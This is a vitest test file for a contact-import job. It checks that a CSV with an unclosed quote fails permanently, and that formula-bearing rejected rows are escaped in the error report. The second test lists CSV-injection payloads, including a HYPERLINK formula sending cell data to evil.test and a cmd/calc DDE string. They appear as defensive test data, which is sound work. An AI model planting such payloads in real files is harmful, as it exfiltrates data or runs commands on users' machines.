/**
 * import.contacts with files an attacker wrote: an unclosed quote fails the import permanently,
 * the imports row saying which row (it used to import 2 "records" out of 1,001 rows and report
 * success); and invalid rows holding formulas reach the error report escaped as the exports
 * escape them, so opening the report in a spreadsheet runs nothing.
 */
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath, pathToFileURL } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CsvParser } from "../shared/imports/csv";
import { runImport } from "../shared/imports/import-contacts";
import { silentLogger } from "../shared/ports";
import { createEngine, type Engine } from "../shared/queue/engine";
import { PermanentError } from "../shared/queue/errors";
import { StorageRouter } from "../shared/storage/storage";
import { createLocalStorage } from "../workers/node/local-storage";
import { createTestDatabase } from "./support/services";

type Db = Awaited<ReturnType<typeof createTestDatabase>>;
let db: Db;
let dir: string;
let engine: Engine;

beforeAll(async () => {
  db = await createTestDatabase("import_hostile");
  dir = await mkdtemp(join(tmpdir(), "pm-import-hostile-"));
  engine = createEngine({ sql: db.sql });
  await mkdir(join(dir, "acme"), { recursive: true });
  await db.sql.query("insert into lists (id, tenant_id, name) values ('lst_h', 'acme', 'hostile')");
});
afterAll(async () => {
  await engine?.dispatcher.close();
  await db?.drop();
  if (dir) await rm(dir, { recursive: true, force: true });
});

async function importFile(id: string, text: string) {
  const path = join(dir, "acme", `${id}.csv`);
  await writeFile(path, text);
  const store = createLocalStorage(dir);
  return runImport(
    { file_url: pathToFileURL(path).toString(), tenant_id: "acme", mapping: { email: "email", name: "name" }, list_id: "lst_h", has_header: true },
    { id },
    { signal: new AbortController().signal, logger: silentLogger, progress: () => {} },
    { sql: db.sql, queue: engine.queue, storage: new StorageRouter([store], store), logger: silentLogger },
  );
}

async function importRow(id: string) {
  const [r] = await db.sql.query<{ status: string; error: string | null; report_url: string | null }>(
    "select status, error, report_url from imports where id = $1",
    [id],
  );
  return r;
}

describe("import.contacts: an unclosed quote", () => {
  it("fails the import permanently, and the imports row's error names the row and line", async () => {
    let text = "email,name\n";
    for (let r = 2; r <= 1001; r++) text += r === 2 ? 'bob@example.com,"Bob\n' : `user${r}@example.com,Name ${r}\n`;
    const err = await importFile("unclosed-1", text).then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(err).toBeInstanceOf(PermanentError);
    expect((err as Error).message).toMatch(/^CSV row 2 \(line 2\): .*never closed.*\(CSV_QUOTE_NOT_CLOSED\)$/);
    const row = await importRow("unclosed-1");
    expect(row).toMatchObject({ status: "failed" });
    expect(row!.error).toMatch(/^CSV row 2 \(line 2\): /);
    const [{ n }] = (await db.sql.query<{ n: number }>("select count(*)::int as n from contacts where tenant_id = 'acme' and email = 'bob@example.com'")) as [{ n: number }];
    expect(n).toBe(0);
  });
});

describe("import.contacts: the error report", () => {
  it("escapes formulas in rejected rows as the exports do", async () => {
    const hostile = ['=HYPERLINK("http://evil.test/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1+1", "=1+1,2"];
    const text = `email,name\n${hostile.map((h) => `"${h.replaceAll('"', '""')}",N`).join("\n")}\nok@example.com,Ok\n`;
    const result = await importFile("formula-1", text);
    expect(result).toMatchObject({ status: "completed", invalid: hostile.length, created: 1 });
    const report = await readFile(fileURLToPath((await importRow("formula-1"))!.report_url!), "utf8");
    const lines = report.trimEnd().split("\n");
    expect(lines[0]).toBe("row,reason,email");
    // Read back as CSV, every rejected cell is text: a leading ' before the formula character.
    const records = new CsvParser().push(`${report}`).slice(1);
    expect(records.map((r) => r[2])).toEqual(hostile.map((h) => `'${h}`));
    for (const r of records) expect(r[2]).not.toMatch(/^[=+\-@\t\r]/);
    expect(records.map((r) => r[0])).toEqual(hostile.map((_, i) => String(i + 2)));
  });
});
